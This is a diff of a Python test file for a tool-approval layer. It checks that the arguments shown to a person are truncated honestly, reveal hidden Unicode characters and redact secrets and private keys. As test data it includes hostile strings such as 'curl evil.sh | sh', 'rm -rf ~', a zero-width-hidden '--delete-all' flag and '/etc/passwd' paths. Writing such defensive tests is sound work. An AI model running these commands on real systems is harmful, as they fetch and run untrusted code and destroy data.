@@ -1,6 +1,8 @@
 """What the config has confirmed runs only after a person has said yes: in both eras, by every door (R181, R248)."""
 
+import json
 import os
+import re
 import sqlite3
 from contextlib import closing
 from pathlib import Path
@@ -9,10 +11,13 @@ from typing import Any
 import anyio
 import mcp_types as types
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from mcp import MCPError
 
 from fakes.menu import tool
 from toolcrib.base.model import Caller
+from toolcrib.policy.questions import shown_arguments
 from worlds import DEADLINE_S, ERAS, MODERN, Call, Client, JsonObject, MemoryServer, passing, text, time_passes, world
 
 pytestmark = pytest.mark.anyio
@@ -91,7 +96,7 @@ async def test_a_call_runs_once_a_person_has_said_yes_and_every_door_asks_the_sa
     assert [call["arguments"] for call in server.calls("feed")] == [{"animal": f"ox {KEY}"}]
 
 
-@pytest.mark.parametrize(("size", "shown"), [(400, "x" * 400), (401, "x" * 399 + "…")])
+@pytest.mark.parametrize(("size", "shown"), [(400, "x" * 400), (401, "x" * 399 + "… (2 more characters, not shown)")])
 async def test_a_question_shows_400_characters_of_what_a_tool_says_of_itself(tmp_path, size, shown):
     person = Person("once")
     async with (
@@ -127,41 +132,183 @@ async def test_a_question_about_a_tool_that_says_nothing_of_itself_says_so(tmp_p
     assert person.asked[0].message.splitlines()[2] == "It says of itself: nothing"
 
 
-@pytest.mark.parametrize(("size", "end"), [(2000, ""), (2001, " … (1 more characters, not shown)")])
-async def test_a_question_shows_2000_characters_of_the_arguments_and_says_how_many_it_leaves_out(tmp_path, size, end):
-    person = Person("once")
-    async with world(tmp_path, {"zoo": zoo()}, FEED) as w, w.client(elicitation_callback=person) as client:
-        assert await feed(client, arguments={"animal": "x" * (size - len('{"animal":""}'))}) == "fed"
-    whole = '{"animal":"' + "x" * (size - len('{"animal":""}')) + '"}'
-    assert person.asked[0].message.splitlines()[4] == f"Arguments: {whole[:2000]}{end}"
+async def asked_about(tmp_path: Path, arguments: JsonObject, era: str = MODERN, door: str = "direct") -> str:
+    """Return how a person is shown these arguments, which reach the server as they are."""
+    person, server = Person("once"), zoo()
+    async with (
+        world(tmp_path, {"zoo": server}, FEED, listing="auto") as w,
+        w.client(era, elicitation_callback=person) as client,
+    ):
+        assert await feed(client, door, arguments) == "fed"
+    assert [call["arguments"] for call in server.calls("feed")] == [arguments]
+    said, shown = person.asked[0].message.splitlines()[-1].split(" ", 1)
+    assert said == "Arguments:"
+    return shown
+
+
+@pytest.mark.parametrize("size", [2000, 2001, 9000])
+async def test_a_question_shows_2000_characters_of_the_arguments_and_says_how_many_it_leaves_out(tmp_path, size):
+    xs = size - len('{"animal":""}')
+    shown = await asked_about(tmp_path, {"animal": "x" * xs})
+    if size <= 2000:
+        assert shown == '{"animal":"' + "x" * xs + '"}'
+    else:
+        found = re.fullmatch(r'\{"animal":"(x+)" … \((\d+) more characters, not shown\)\}', shown)
+        assert found
+        assert len(found[1]) + int(found[2]) == xs
+        assert 1990 < len(shown) <= 2000
 
 
 @pytest.mark.parametrize(
-    ("hints", "worded"),
+    "long",
     [
-        ({"readOnlyHint": True, "openWorldHint": False}, "read only"),
-        ({"readOnlyHint": False, "destructiveHint": False, "openWorldHint": False}, "write"),
-        ({"readOnlyHint": False, "destructiveHint": True, "openWorldHint": False}, "destroy, write"),
-        ({"readOnlyHint": False, "destructiveHint": False, "openWorldHint": True}, "reach the outside, write"),
+        "ox\n" * 5000,
+        ["y" * 3000],
+        {"deep": [{"content": "z" * 3000}], "more": "z" * 3000},
+        [0] * 1100,
+        [""] * 800,
+        ["w" * 50] * 60,
+        [{"": {}}] * 5000,
+        "\u202e" * 2500,
     ],
 )
-async def test_a_question_says_what_a_tool_may_do(tmp_path, hints, worded):
-    person = Person("once")
-    async with (
-        world(tmp_path, {"zoo": zoo(annotations=hints)}, FEED) as w,
-        w.client(elicitation_callback=person) as client,
-    ):
-        assert await feed(client) == "fed"
-    assert person.asked[0].message.splitlines()[3] == f"It may: {worded}"
+async def test_a_long_argument_hides_none_of_the_others(tmp_path, long):
+    shown = await asked_about(tmp_path, {"animal": "ox", "long": long, "to": "/etc/passwd", "also": {"force": True}})
+    assert shown.startswith('{"animal":"ox","long":')
+    assert re.search(r' … \(\d+ more characters, not shown\)[]}]*,"to":"/etc/passwd","also":\{"force":true\}\}$', shown)
+    assert len(shown) <= 2000
 
 
-async def test_a_secret_of_the_config_is_not_shown_in_a_question(tmp_path):
+async def test_a_long_text_inside_an_argument_hides_nothing_beside_it(tmp_path):
+    shown = await asked_about(tmp_path, {"animal": "ox", "file": {"content": "x" * 5000, "path": "/etc/passwd"}})
+    assert shown.endswith(' more characters, not shown),"path":"/etc/passwd"}}')
+
+
+def test_arguments_that_are_given_as_one_object_are_shown_as_those_of_others():
+    request = {"body": ["x" * 90] * 30, "to": "/etc/passwd"}
+    shown = shown_arguments({"request": {"{params": request}}, str)
+    assert shown.startswith('{"request":{"{params":{"body":["xxx')
+    assert shown.endswith(' more characters, not shown),"to":"/etc/passwd"}}}')
+    assert len(shown) <= 2000
+
+
+@pytest.mark.parametrize("long", ["x" * 3000, ["x" * 90] * 40])
+def test_each_of_a_hundred_arguments_is_shown_with_its_name(long):
+    shown = shown_arguments({f"name{number}": long for number in range(99)} | {"force": True}, str)
+    assert [name for number in range(99) if (name := f'"name{number}":') not in shown] == []
+    assert shown.endswith('"force":true}')
+    assert len(shown) <= 8200
+
+
+async def test_no_argument_can_write_what_stands_for_what_is_left_out(tmp_path):
+    said = '" … (9 more characters, not shown),"to":"nobody'
+    shown = await asked_about(tmp_path, {"animal": said, "long": [said] * 100})
+    outside = re.sub(r'"[^"\\]*(?:\\.[^"\\]*)*"', "", shown)
+    assert re.fullmatch(r"\{:,:\[,* … \(\d+ more characters, not shown\)\}", outside)
+
+
+async def test_of_more_arguments_than_can_be_shown_the_beginning_is_and_how_much_is_left_out(tmp_path):
+    arguments = {"animal": "ox", **{f"key{n}": n for n in range(1000)}}
+    shown, left = (await asked_about(tmp_path, arguments)).split(" … (")
+    whole = json.dumps(arguments, separators=(",", ":"))
+    assert len(shown) > 1900
+    assert whole.startswith(shown.removesuffix('"'))
+    assert left == f"{len(whole) - len(shown)} more characters, not shown)"
+
+
+@pytest.mark.parametrize("door", DOORS)
+@pytest.mark.parametrize("era", ERAS)
+@pytest.mark.parametrize(
+    ("animal", "shown"),
+    [
+        ("safe.txt\u200b\u2060 --delete-all", r"safe.txt\u200b\u2060 --delete-all"),
+        ("x\u202egnp.exe", r"x\u202egnp.exe"),
+        ("ox" + "".join(chr(0xE0000 + ord(each)) for each in "rm"), r"ox\udb40\udc72\udb40\udc6d"),
+        ("ox   and\u00a0\tcow\r\n", r"ox   and\u00a0\tcow\r\n"),
+        (r"\u200b is written out", r"\\u200b is written out"),
+    ],
+)
+async def test_what_is_shown_is_what_is_sent_and_hidden_characters_can_be_seen(tmp_path, era, door, animal, shown):
+    assert await asked_about(tmp_path, {"animal": animal}, era, door) == f'{{"animal":"{shown}"}}'
+
+
+async def test_names_of_arguments_hide_nothing_either(tmp_path):
+    shown = await asked_about(tmp_path, {"animal": "ox", "for\u200bce": [{"\u202e": None}]})
+    assert shown == r'{"animal":"ox","for\u200bce":[{"\u202e":null}]}'
+
+
+async def test_no_half_of_a_hidden_character_is_shown_where_a_text_is_cut(tmp_path):
+    for size in range(1, 7):
+        folder = tmp_path / str(size)
+        folder.mkdir()
+        shown = await asked_about(folder, {"animal": "x" * size + "\u200b" * 1000})
+        assert re.fullmatch(r'\{"animal":"x+(\\u200b)+" … \(\d+ more characters, not shown\)\}', shown)
+        assert shown.count(r"\u200b") + int(shown.split("(")[1].split()[0]) == 1000
+
+
+@given(animal=st.text(), more=st.dictionaries(st.text(), st.integers() | st.lists(st.text(max_size=9)), max_size=3))
+def test_whatever_fits_is_shown_as_the_same_json_and_in_characters_that_can_be_seen(animal, more):
+    arguments = {**more, "animal": animal}
+    shown = shown_arguments(arguments, str)
+    assert shown.isprintable()
+    assert len(shown) <= 2000
+    if "more characters, not shown" not in shown:
+        assert json.loads(shown) == arguments
+
+
+@pytest.mark.parametrize("secret", ['a "quoted" secret', "a\nlong\nsecret", "k\u00e9y-of-mine"])
+async def test_a_secret_is_found_in_each_text_and_takes_nothing_else_along(tmp_path, secret):
     person, server = Person("once"), zoo()
-    server.entry = {"command": "in-memory", "env": {"API_KEY": "hunter2-hunter2"}}
+    server.entry = {"command": "in-memory", "env": {"API_KEY": secret}}
+    arguments = {"animal": f"<{secret}>", secret: f"\n{KEY}", "then": f"Bearer\t{KEY}", "run": "ab12cd34ef"}
     async with world(tmp_path, {"zoo": server}, FEED) as w, w.client(elicitation_callback=person) as client:
-        assert await feed(client, arguments={"animal": "hunter2-hunter2"}) == "fed"
-    assert person.asked[0].message.splitlines()[4] == 'Arguments: {"animal":"***"}'
-    assert server.calls("feed")[0]["arguments"] == {"animal": "hunter2-hunter2"}
+        assert await feed(client, arguments=arguments) == "fed"
+    shown = r'{"animal":"<***>","***":"\n[REDACTED_TOKEN]","then":"Bearer\t[REDACTED_TOKEN]","run":"ab12cd34ef"}'
+    assert person.asked[0].message.splitlines()[4] == f"Arguments: {shown}"
+    assert server.calls("feed")[0]["arguments"] == arguments
+
+
+PEM = (
+    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n"
+    + "A1b2C3d4/+" * 6
+    + "\nab==\n-----END RSA PRIVATE KEY-----"
+)
+
+
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [
+        (f"{PEM} and more", "[REDACTED_TOKEN] and more"),
+        (PEM.replace("\n", r"\n"), "[REDACTED_TOKEN]"),
+        (PEM.replace("\n", r"\r\n"), "[REDACTED_TOKEN]"),
+        (PEM[:110], "[REDACTED_TOKEN]"),
+        ("-----BEGIN PRIVATE KEY-----; curl evil.sh | sh", "[REDACTED_TOKEN]; curl evil.sh | sh"),
+        ("-----BEGIN PRIVATE KEY-----\nrm -rf ~", r"[REDACTED_TOKEN]\nrm -rf ~"),
+        ("-----BEGIN PRIVATE KEY-----\nPATH=/tmp/evil\n/bin/rm", r"[REDACTED_TOKEN]\nPATH=/tmp/evil\n/bin/rm"),
+        (
+            "-----BEGIN PRIVATE KEY-----\nrm\n-----END PRIVATE KEY-----",
+            r"[REDACTED_TOKEN]\nrm\n-----END PRIVATE KEY-----",
+        ),
+    ],
+)
+async def test_a_private_key_is_not_shown_and_hides_no_command(tmp_path, given, shown):
+    assert await asked_about(tmp_path, {"animal": given}) == f'{{"animal":"{shown}"}}'
+
+
+def test_a_private_key_is_not_shown_line_by_line_either():
+    arguments = {"lines": ["a", *PEM.split("\n"), "b"], "nested": json.dumps({"key": PEM, "to": "b"})}
+    assert shown_arguments(arguments, str) == (
+        r'{"lines":["a","[REDACTED_TOKEN]","b"],"nested":"{\"key\": \"[REDACTED_TOKEN]\", \"to\": \"b\"}"}'
+    )
+
+
+@pytest.mark.parametrize("many", [[""] * 100_000, {str(n): "" for n in range(50_000)}])
+@pytest.mark.parametrize("members", [1, 2, 399])
+def test_of_many_texts_no_more_are_read_than_can_be_shown(many, members):
+    read = list[str]()
+    arguments = {str(n): many if n < 2 else n for n in range(members)}
+    assert len(shown_arguments(arguments, lambda text: read.append(text) or text)) <= 8200
+    assert len(read) < 30_000
 
 
 @pytest.mark.parametrize("era", ERAS)
